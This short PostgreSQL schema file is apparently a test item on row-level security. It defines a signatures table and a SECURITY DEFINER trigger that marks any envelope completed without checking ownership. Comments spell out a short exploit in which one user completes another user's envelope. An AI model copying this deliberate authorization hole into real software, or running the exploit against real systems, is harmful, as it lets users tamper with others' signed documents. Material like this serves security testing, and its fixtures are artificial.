-- The trigger closes the envelope named in the new row with its owner's rights and does not look whose it
-- is.
-- about: on_signed, signatures, envelopes, signatures_done
-- as: hf_signet_app
-- exploit: SET request.jwt.claims = '{"user_id": 11}';
-- exploit: INSERT INTO sign.signatures (account_id, envelope_id, image) VALUES (1, 70, 'x');
-- exploit: SET request.jwt.claims = '{"user_id": 22}';
-- exploit: SELECT id, state FROM sign.envelopes;
-- shows: 70 | completed
CREATE TABLE sign.signatures (
  account_id bigint NOT NULL REFERENCES sign.accounts,
  envelope_id bigint NOT NULL,
  image text NOT NULL
);
ALTER TABLE sign.signatures ENABLE ROW LEVEL SECURITY;
ALTER TABLE sign.signatures FORCE ROW LEVEL SECURITY;
CREATE POLICY signatures_member ON sign.signatures USING (account_id = ANY (sign.my_accounts()));
GRANT SELECT, INSERT ON sign.signatures TO hf_signet_app;
CREATE FUNCTION sign.on_signed() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  UPDATE sign.envelopes SET state = 'completed' WHERE id = NEW.envelope_id AND state = 'sent';
  RETURN NEW;
END $$;
REVOKE EXECUTE ON FUNCTION sign.on_signed() FROM PUBLIC;
CREATE TRIGGER signatures_done AFTER INSERT ON sign.signatures FOR EACH ROW EXECUTE FUNCTION sign.on_signed();
